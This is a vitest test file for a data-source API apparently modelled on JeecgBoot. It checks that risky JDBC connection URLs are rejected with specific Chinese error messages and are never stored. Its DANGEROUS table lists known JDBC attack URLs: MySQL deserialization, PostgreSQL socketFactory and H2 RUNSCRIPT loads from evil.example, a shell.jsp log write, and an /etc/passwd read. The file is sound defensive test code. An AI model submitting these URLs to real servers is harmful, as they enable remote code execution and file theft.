import { randomBytes } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { createApp } from "../src/app";
import { PERMISSION_CODES } from "../src/http/permission-codes";
import { newId } from "../src/ids";
import { backends } from "./support/backends";
import { grantedClient } from "./support/granted-user";

const TENANT = 1000;
const unique = () => `ds_${randomBytes(4).toString("hex")}`;

/** URLs that load classes, open files or run scripts, with the option (or reason) the answer names. */
const DANGEROUS: ReadonlyArray<readonly [dbDriver: string, dbUrl: string, message: string]> = [
  [
    "com.mysql.cj.jdbc.Driver",
    "jdbc:mysql://db:3306/report?useSSL=false&autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
    "连接地址含不允许的参数：autoDeserialize",
  ],
  [
    "com.mysql.cj.jdbc.Driver",
    "jdbc:mysql://db/report?allowLoadLocalInfile=true",
    "连接地址含不允许的参数：allowLoadLocalInfile",
  ],
  [
    "org.postgresql.Driver",
    "jdbc:postgresql://db/report?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml",
    "连接地址含不允许的参数：socketFactory",
  ],
  [
    "org.postgresql.Driver",
    "jdbc:postgresql://db/report?loggerFile=/tmp/shell.jsp",
    "连接地址含不允许的参数：loggerFile",
  ],
  [
    "org.h2.Driver",
    "jdbc:h2:tcp://db/~/x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
    "连接地址含不允许的参数：INIT",
  ],
  [
    "org.h2.Driver",
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
    "不允许使用在服务器上打开文件或内存的数据库连接：jdbc:h2:mem:",
  ],
  [
    "org.sqlite.JDBC",
    "jdbc:sqlite:/etc/passwd",
    "不允许使用在服务器上打开文件或内存的数据库连接：org.sqlite.JDBC",
  ],
];

describe.each(backends)("data-source connection URLs on $name", (backend) => {
  beforeAll(async () => {
    await backend.db();
  });

  const setup = async () => {
    const db = await backend.db();
    const app = createApp({ db });
    const manager = await grantedClient(app, db, Object.values(PERMISSION_CODES.dataSource), {
      tenants: [TENANT],
      tenantId: TENANT,
    });
    const stored = (code: string) =>
      db.selectFrom("sys_data_source").selectAll().where("code", "=", code).executeTakeFirst();
    return { db, ...manager, stored };
  };

  it("stores JeecgBoot's own templates", async () => {
    const { client, stored } = await setup();
    const code = unique();
    const dbUrl =
      "jdbc:mysql://127.0.0.1:3306/jeecg-boot?characterEncoding=UTF-8&useUnicode=true&useSSL=false&tinyInt1isBit=false&allowPublicKeyRetrieval=true&serverTimezone=Asia/Shanghai";
    expect(
      await client.sys.dataSource.add({
        code,
        name: "业务库",
        dbType: "4",
        dbDriver: "com.mysql.cj.jdbc.Driver",
        dbUrl,
      }),
    ).toMatchObject({ success: true, message: "添加成功！" });
    expect(await stored(code)).toMatchObject({ db_url: dbUrl, db_driver: "com.mysql.cj.jdbc.Driver" });
  });

  it.each(DANGEROUS)(
    "refuses to add %s with %s, naming why, and stores nothing",
    async (dbDriver, dbUrl, message) => {
      const { client, stored } = await setup();
      const code = unique();
      expect(await client.sys.dataSource.add({ code, name: "危险", dbDriver, dbUrl })).toMatchObject({
        success: false,
        message,
      });
      expect(await stored(code)).toBeUndefined();
    },
  );

  it("refuses a driver that does not read the URL, and a type that names another database", async () => {
    const { client, stored } = await setup();
    const code = unique();
    const mismatch = await client.sys.dataSource.add({
      code,
      dbDriver: "org.postgresql.Driver",
      dbUrl: "jdbc:mysql://db/report",
    });
    expect(mismatch).toMatchObject({
      success: false,
      message: "数据库驱动 org.postgresql.Driver 需要以 jdbc:postgresql:// 开头的连接地址",
    });
    expect(
      await client.sys.dataSource.add({ code, dbType: "2", dbUrl: "jdbc:postgresql://db/report" }),
    ).toMatchObject({ success: false, message: "数据库类型 2 与连接地址不匹配" });
    expect(await client.sys.dataSource.add({ code, dbDriver: "com.evil.Driver" })).toMatchObject({
      success: false,
      message: "不支持的数据库驱动：com.evil.Driver",
    });
    expect(await stored(code)).toBeUndefined();
  });

  it("checks an edit as the record will be after it, and changes nothing when refused", async () => {
    const { client, stored } = await setup();
    const code = unique();
    await client.sys.dataSource.add({
      code,
      name: "报表库",
      dbType: "6",
      dbDriver: "org.postgresql.Driver",
      dbUrl: "jdbc:postgresql://db:5432/report",
    });
    const before = await stored(code);
    if (!before) throw new Error("data source not stored");

    for (const [, dbUrl, message] of DANGEROUS.slice(0, 4)) {
      expect(await client.sys.dataSource.edit({ id: before.id, dbUrl })).toMatchObject({
        success: false,
        message,
      });
    }
    // Only the driver changes, but the stored URL is PostgreSQL's.
    expect(
      await client.sys.dataSource.edit({ id: before.id, dbDriver: "com.mysql.cj.jdbc.Driver" }),
    ).toMatchObject({
      success: false,
      message: "数据库类型 6 与数据库驱动不匹配",
    });
    expect(await stored(code)).toEqual(before);

    expect(
      await client.sys.dataSource.edit({
        id: before.id,
        dbUrl: "jdbc:postgresql://db:5432/report?sslmode=require",
      }),
    ).toMatchObject({ success: true });
    expect((await stored(code))?.db_url).toBe("jdbc:postgresql://db:5432/report?sslmode=require");
  });

  it("does not keep a dangerous URL written by another program through an edit of another field", async () => {
    const { db, client, stored } = await setup();
    const code = unique();
    const dbUrl = "jdbc:mysql://db/report?autoDeserialize=true";
    await db
      .insertInto("sys_data_source")
      .values({
        id: newId(),
        code,
        name: "旧记录",
        db_driver: "com.mysql.cj.jdbc.Driver",
        db_url: dbUrl,
        tenant_id: TENANT,
      })
      .execute();
    const id = (await stored(code))?.id ?? "";
    expect(await client.sys.dataSource.edit({ id, name: "改名" })).toMatchObject({
      success: false,
      message: "连接地址含不允许的参数：autoDeserialize",
    });
    expect(
      await client.sys.dataSource.edit({ id, name: "改名", dbUrl: "jdbc:mysql://db/report" }),
    ).toMatchObject({ success: true });
    expect(await stored(code)).toMatchObject({ name: "改名", db_url: "jdbc:mysql://db/report" });
  });
});
